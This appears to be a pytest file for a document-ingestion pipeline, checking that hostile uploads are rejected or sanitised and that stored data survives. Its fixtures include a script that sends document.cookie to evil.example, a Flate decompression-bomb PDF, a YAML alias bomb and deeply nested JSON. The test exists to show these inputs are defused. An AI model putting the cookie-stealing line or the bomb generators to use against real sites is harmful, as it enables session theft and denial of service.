"""Hostile files: a decompression bomb, an over-long PDF, malformed and encrypted PDFs, HTML
full of scripts. Each is rejected with a reason or cleaned; nothing is stored half-way and
nothing already stored is lost."""

from __future__ import annotations

import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from conftest import Cast
from corpus.encoders.embedding import Encoder
from corpus.ingest.flow import ingest_paths
from corpus.tests.helpers import documents, stored_chunks
from corpus.tests.pdfs import assemble, make_pdf


def pdf_with_stream(stream: bytes) -> bytes:
    """One page whose content stream is `stream`, Flate-compressed (a few hundred KB can
    claim hundreds of MB)."""
    packed = zlib.compress(stream, 9)
    objects = [
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(packed) + packed + b"\nendstream",
        b"<< /Type /Page /Parent 4 0 R /MediaBox [0 0 612 842] /Contents 2 0 R"
        b" /Resources << /Font << /F1 1 0 R >> >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Catalog /Pages 4 0 R >>",
    ]
    return assemble(objects, root=5)


def too_many_pages() -> bytes:
    import io

    from pypdf import PdfWriter

    writer = PdfWriter()
    for _ in range(2001):
        writer.add_blank_page(width=200, height=200)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


SCRIPTED_HTML = """<!doctype html><html><head><title>Refund policy</title>
<script>window.location='https://evil.example/?c='+document.cookie; var secret = "SCRIPT-CANARY";</script>
<style>.x { content: "STYLE-CANARY" }</style></head>
<body><h1>Refund policy</h1><p>Refunds are issued within 14 days of purchase.</p>
<noscript>NOSCRIPT-CANARY</noscript><p onclick="alert('HANDLER-CANARY')">Contact billing for partial refunds.</p>
<template>TEMPLATE-CANARY</template><iframe srcdoc="IFRAME-CANARY"></iframe></body></html>"""


@pytest.mark.django_db
@pytest.mark.slow
def test_hostile_files_are_rejected_with_reasons_and_nothing_is_half_stored(
        acme: Cast, encoder: Encoder, tmp_path: Path) -> None:
    folder = tmp_path / "docs"
    folder.mkdir()
    (folder / "keep.md").write_text("# Keep\n\nThe keep document says webhooks retry five times.\n")
    ingest_paths(tenant=acme.tenant, paths=[folder], encoder=encoder)
    before = stored_chunks(acme.tenant)

    import io

    from pypdf import PdfReader, PdfWriter

    encrypted = io.BytesIO()
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(make_pdf([["Secret page."]]))))
    writer.encrypt("pw")
    writer.write(encrypted)
    hostile = {
        "bomb.pdf": pdf_with_stream(b" " * (200 * 1024 * 1024)),  # 200 MB of nothing in ~200 KB
        "long.pdf": too_many_pages(),
        "encrypted.pdf": encrypted.getvalue(),
        "truncated.pdf": make_pdf([["Half a file."]])[:80],
        "renamed.pdf": b"PK\x03\x04 a zip file wearing a pdf name",
    }
    for name, content in hostile.items():
        (folder / name).write_bytes(content)
    (folder / "refunds.html").write_text(SCRIPTED_HTML)

    report = ingest_paths(tenant=acme.tenant, paths=[folder], encoder=encoder)
    reasons = {Path(path).name: reason for path, reason in report.failed}
    assert "decompression" in reasons["bomb.pdf"]
    assert "2001 pages" in reasons["long.pdf"]
    assert "encrypted" in reasons["encrypted.pdf"]
    assert "unreadable" in reasons["truncated.pdf"] or "no extractable text" in reasons["truncated.pdf"]
    assert "not a PDF" in reasons["renamed.pdf"]

    docs = documents(acme.tenant)
    assert not any(slug in {"bomb", "long", "encrypted", "truncated", "renamed"} for _, slug in docs)
    after = stored_chunks(acme.tenant)
    assert [c for c in after if c["document_id"] == docs[("doc", "keep")].pk] == before  # nothing lost
    html_text = " ".join(c["content"] for c in after if c["document_id"] == docs[("doc", "refunds")].pk)
    assert "Refunds are issued within 14 days" in html_text and "partial refunds" in html_text
    for canary in ("SCRIPT-CANARY", "STYLE-CANARY", "NOSCRIPT-CANARY", "HANDLER-CANARY", "TEMPLATE-CANARY",
                   "IFRAME-CANARY", "document.cookie"):
        assert canary not in html_text, canary


@pytest.mark.django_db
@pytest.mark.slow
def test_stalling_files_fail_alone_and_parse_outside_the_tenant_lock(
        acme: Cast, encoder: Encoder, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Issue 15 item 2: a 3 KB upload used to hold the tenant's ingest lock for hours."""
    import contextlib
    import time

    from corpus.ingest import flow, store

    folder = tmp_path / "docs"
    folder.mkdir()
    (folder / "keep.md").write_text("# Keep\n\nThe keep document says webhooks retry five times.\n")
    (folder / "spaces.md").write_text("# x" + " " * 3000 + "y\n\nBody.\n")
    (folder / "bomb.md").write_text("---\na: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
                                    "title: [*b, *b, *b, *b, *b, *b, *b, *b, *b]\n---\nBody.\n")
    (folder / "changelog-deep.json").write_text("[" * 50_000 + "]" * 50_000)

    held: list[bool] = []
    locked = [False]
    real_lock, real_parse = store.tenant_ingest_lock, flow.parse_all

    @contextlib.contextmanager
    def watched_lock(**kwargs: Any) -> Iterator[None]:
        with real_lock(**kwargs):
            locked[0] = True
            try:
                yield
            finally:
                locked[0] = False

    def watched_parse(*args: Any, **kwargs: Any) -> Any:
        held.append(locked[0])
        return real_parse(*args, **kwargs)

    monkeypatch.setattr(store, "tenant_ingest_lock", watched_lock)
    monkeypatch.setattr(flow, "parse_all", watched_parse)
    started = time.perf_counter()
    report = ingest_paths(tenant=acme.tenant, paths=[folder], encoder=encoder)
    assert time.perf_counter() - started < 30
    assert held == [False], "parsing ran inside the tenant's ingest lock"
    reasons = {Path(path).name: reason for path, reason in report.failed}
    assert reasons["spaces.md"] == "title is 3,002 characters; the limit is 500"
    assert "anchors and aliases are refused" in reasons["bomb.md"]
    assert "nested too deeply" in reasons["changelog-deep.json"]
    assert ("doc", "keep") in documents(acme.tenant)
